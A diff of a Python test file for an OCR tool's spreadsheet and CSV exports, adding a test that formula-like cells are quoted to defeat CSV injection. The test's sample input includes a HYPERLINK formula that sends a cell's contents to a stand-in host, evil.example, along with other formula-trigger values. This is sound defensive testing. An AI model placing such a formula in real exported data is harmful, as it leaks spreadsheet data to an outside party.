@@ -123,8 +123,9 @@ def test_xlsx_has_a_sheet_per_table_with_typed_cells_and_the_text(layout):
 def test_csv_is_a_zip_of_one_file_per_table(layout):
     made = exports.export(layout, "csv", "spec.png", page_image=None)
     assert (made.name, made.mime) == ("spec.csv.zip", "application/zip")
+    # "-3,5" as "'-3,5": a cell that begins like a formula is quoted (the test below says why).
     assert unzip(made.data) == {
-        "spec.p1.t1.csv": SPEC_CELLS,
+        "spec.p1.t1.csv": [[("'" + c if c.startswith("-") else c) for c in row] for row in SPEC_CELLS],
         "spec.p1.t2.csv": PRICES_CELLS,
     }
 
@@ -287,6 +288,20 @@ def test_xlsx_reads_a_table_by_its_convention_or_else_its_pages():
     assert elsewhere["A1"] == (1.1, "0.00") and elsewhere["C1"] == ("0,5", "General")
 
 
+def test_csv_cells_that_begin_like_a_formula_are_quoted_so_no_spreadsheet_runs_them():
+    """OWASP's CSV injection: a scanned "=HYPERLINK(…)" must reach Excel as text."""
+    from models.exports.csv_files import csv_bytes
+
+    cells = ["=HYPERLINK(\"http://evil.example/?\"&A2)", "+7 495 241-15-07", "-3,5", "@SUM(A1)", "a=b", "1-2"]
+    table = "| " + " | ".join(cells) + " |\n|" + "--|" * len(cells) + "\n| " + " | ".join("x" * len(cells)) + " |"
+    made = exports.export(OCRResult(model="m", engine="e", task="t", pages=[{"index": 0, "markdown": table}]),
+                          "csv", "one.png", page_image=None)
+    header = next(csv.reader(io.StringIO(made.data.decode("utf-8-sig"))))
+    assert header == ["'=HYPERLINK(\"http://evil.example/?\"&A2)", "'+7 495 241-15-07", "'-3,5", "'@SUM(A1)",
+                      "a=b", "1-2"]
+    assert next(csv.reader(io.StringIO(csv_bytes([["\tx", "\rx"]]).decode("utf-8-sig")))) == ["'\tx", "'\rx"]
+
+
 def test_csv_holds_every_cell_exactly_as_written():
     made = exports.export(of_markdown(TENDER), "csv", "tender.png", page_image=None)
     assert made.data.startswith("\ufeff".encode())
@@ -344,10 +359,10 @@ def test_the_cli_writes_the_others_and_says_what_failed(scanned, tmp_path, capsy
 
     def lost(index):
         raise OSError("the page image is gone")
-    assert cli._write(tmp_path, [(Path("a.png"), result)], "pdf", images.__getitem__) is True
-    assert cli._write(tmp_path, [(Path("a.png"), result), (Path("b.png"), result)], "pdf", lost) is False
+    assert cli._write(tmp_path, [(Path("a.png"), result)], "pdf", {}, images.__getitem__) is True
+    assert cli._write(tmp_path, [(Path("a.png"), result), (Path("b.png"), result)], "pdf", {}, lost) is False
     assert cli._write(tmp_path, [(Path("a.png"), result), (Path("b.png"), result), (Path("c.png"), result)],
-                      "pdf", images.__getitem__) is True
+                      "pdf", {}, images.__getitem__) is True
     assert sorted(p.name for p in tmp_path.iterdir()) == ["a.pdf", "c.pdf"]
     said = capsys.readouterr().err.splitlines()
     assert said[1] == ("error: 'b.png' could not be written as pdf (OSError: the page image is gone); the other "
